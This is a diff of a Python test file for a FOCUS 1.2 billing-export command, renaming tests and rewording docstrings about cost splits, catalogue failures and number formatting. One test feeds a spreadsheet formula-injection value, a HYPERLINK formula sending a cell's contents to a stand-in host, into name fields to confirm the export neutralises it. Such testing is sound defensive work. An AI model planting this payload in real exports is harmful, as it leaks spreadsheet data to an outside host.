@@ -1,4 +1,4 @@
-"""`--format=focus`: charges that add up to what the API says was spent, and columns as FOCUS 1.2 defines them."""
+"""`--format=focus`: charges that add up to the spend that the API reports, and the columns of FOCUS 1.2."""
 
 from __future__ import annotations
 
@@ -46,7 +46,7 @@ catalogues = st.fixed_dictionaries(
 
 
 def own(**fields: Any) -> dict[str, Any]:
-    """Return a row without own provider keys, so that its cost can be divided."""
+    """Return a row without BYOK usage, so that its cost can be divided."""
     return row(**({"byok_usage_inference": 0.0, "cached_tokens": 1} | fields))
 
 
@@ -144,7 +144,7 @@ def test_renamed_model_has_the_prices_of_its_dated_name() -> None:
     assert {"0.000003", "0.0000003", "0.000015"} == {charge["ListUnitPrice"] for charge in charges}
 
 
-def test_row_of_the_catalogue_that_cannot_be_read_does_not_matter_to_others() -> None:
+def test_unreadable_row_of_the_catalogue_does_not_affect_others() -> None:
     charges = focus_of([own()], models=[model(**PRICES), {"name": "without an id"}])
     assert {"true"} == {charge["x_CostIsDivided"] for charge in charges}
 
@@ -207,7 +207,7 @@ async def test_labels_of_the_configuration_are_tags(export: Export) -> None:
     assert {"unallocated"} == {tag["cost_center"] for tag in tags}
 
 
-async def test_label_that_the_configuration_has_is_refused(export: Export) -> None:
+async def test_label_that_the_configuration_sets_is_refused(export: Export) -> None:
     export.allocations = Allocations(labels=("team",))
     with pytest.raises(UsageError, match=r"^--label team: allocations.labels has a label with this name"):
         await exported(export, labels=(("team", "ml"),))
@@ -218,8 +218,8 @@ def test_charge_without_tags_has_none() -> None:
     assert [""] == [charge["Tags"] for charge in focus_of([row()])]
 
 
-def test_numbers_have_a_point() -> None:
-    """A reader that guesses types takes a column of whole numbers for integers, and refuses the next file."""
+def test_numbers_always_have_a_decimal_point() -> None:
+    """A reader that guesses types would take a column of whole numbers for integers and refuse the next file."""
     (charge,) = focus_of([row(usage=1, cached_tokens=1e15)])
     assert ("1.0", "9.0", "1000000000000000.0") == (
         charge["BilledCost"],
@@ -228,7 +228,7 @@ def test_numbers_have_a_point() -> None:
     )
 
 
-def test_splits_have_the_totals_of_the_whole() -> None:
+def test_splits_have_the_totals_of_the_whole_account() -> None:
     uses = [use("k1", days_ago(1), usage=0.1), use("gone", days_ago(1), usage=0.2), use("k2", days_ago(2), usage=0.7)]
     charges = csv_rows(finance.export(SplitApi(uses, ["k1", "k2"]), options=OPTIONS, split_by="api_key"))
     total = decimal_sum(charge["BilledCost"] for charge in charges)
@@ -244,12 +244,12 @@ async def exported(export: Export, **options: Any) -> bytes:
     return await export.run(export_format="focus", **({"step": DEFAULT_STEP} | options))
 
 
-async def test_file_says_in_which_hour_it_was_read(export: Export) -> None:
+async def test_file_has_the_hour_in_which_it_was_read(export: Export) -> None:
     charges = csv_rows(await exported(export, first_day=ago(1)))
     assert {"2026-11-20T15:00:00Z"} == {charge["x_ReadAt"] for charge in charges}
 
 
-async def test_same_call_within_an_hour_writes_the_same_bytes(export: Export) -> None:
+async def test_same_command_within_an_hour_writes_the_same_bytes(export: Export) -> None:
     first = await exported(export)
     export.clock.advance(600)
     assert first == await exported(export)
@@ -268,7 +268,7 @@ async def test_catalogue_is_requested_without_a_key(export: Export) -> None:
     assert "Authorization" not in headers
 
 
-async def test_catalogue_that_cannot_be_read_fails(export: Export) -> None:
+async def test_unreadable_catalogue_fails_the_export(export: Export) -> None:
     export.simulator.faults.replace(replace(parse_fault("status-500"), path="/models"))
     with pytest.raises(ExportError, match="HTTP 500"):
         await exported(export)
@@ -276,8 +276,8 @@ async def test_catalogue_that_cannot_be_read_fails(export: Export) -> None:
 
 
 @pytest.mark.parametrize("status", ["401", "403", "500"])
-async def test_catalogue_that_cannot_be_read_is_blamed_on_no_account(export: Export, status: str) -> None:
-    """A firewall may block it; prices are not necessary."""
+async def test_unreadable_catalogue_is_not_reported_as_failure_of_an_account(export: Export, status: str) -> None:
+    """A firewall may block it, and the export does not need prices."""
     export.simulator.faults.replace(replace(parse_fault(f"status-{status}"), path="/models"))
     with pytest.raises(ExportError) as caught:
         await exported(export)
@@ -287,7 +287,7 @@ async def test_catalogue_that_cannot_be_read_is_blamed_on_no_account(export: Exp
     assert "account" not in message
 
 
-def test_names_are_no_formulas_and_refunds_are_numbers() -> None:
+def test_names_are_not_formulas_and_refunds_are_numbers() -> None:
     name = '=HYPERLINK("http://x.example/?"&A1)'
     (charge,) = focus_of([own(model=name, provider_name=name, usage=-2.5)])
     assert (f"'{name}", f"'{name}") == (charge["x_Model"], charge["PublisherName"])
